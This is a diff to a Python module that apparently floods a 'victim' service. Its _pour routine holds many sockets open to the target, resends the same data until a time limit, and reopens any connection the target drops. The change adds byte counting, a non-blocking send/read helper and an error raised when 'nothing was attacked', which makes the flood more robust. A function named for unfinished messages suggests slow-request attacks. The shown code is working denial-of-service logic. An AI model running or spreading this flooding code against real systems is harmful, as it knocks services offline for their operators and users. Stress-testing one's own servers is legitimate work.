@@ -50,23 +50,37 @@ def _connections(victim: Victim, number: int, *, opens: bool = True) -> list[soc
 
 
 def _pour(victim: Victim, data: bytes, number: int, *, reads: bool = True) -> None:
-    """Send the same again and again on so many connections; those that are closed come anew."""
+    """Send the same again and again on so many connections; those that are closed come anew.
+
+    Raises:
+        RuntimeError: nothing could be sent, so that nothing was attacked.
+    """
     ones = _connections(victim, number)
     poller = select.poll()
+    num_bytes = 0
     end = time.monotonic() + SECONDS
     while time.monotonic() < end:
         for place, one in enumerate(ones):
             try:
-                one.send(data)
-                if reads:
-                    one.recv(1 << 16)
-            except BlockingIOError:
-                pass
+                num_bytes += _exchange(one, data, reads=reads)
             except OSError:
                 one.close()
                 with contextlib.suppress(OSError):
                     ones[place] = _connect(victim)
         poller.poll(1)
+    if not num_bytes:
+        raise RuntimeError(f"nothing could be sent on any of {number} connections")
+
+
+def _exchange(one: socket.socket, data: bytes, *, reads: bool) -> int:
+    """Send as much as goes without waiting, read what is there; how many bytes were sent."""
+    num_bytes = 0
+    with contextlib.suppress(BlockingIOError):
+        num_bytes = one.send(data)
+    with contextlib.suppress(BlockingIOError):
+        if reads:
+            one.recv(1 << 16)
+    return num_bytes
 
 
 def _unfinished_messages(victim: Victim) -> None:
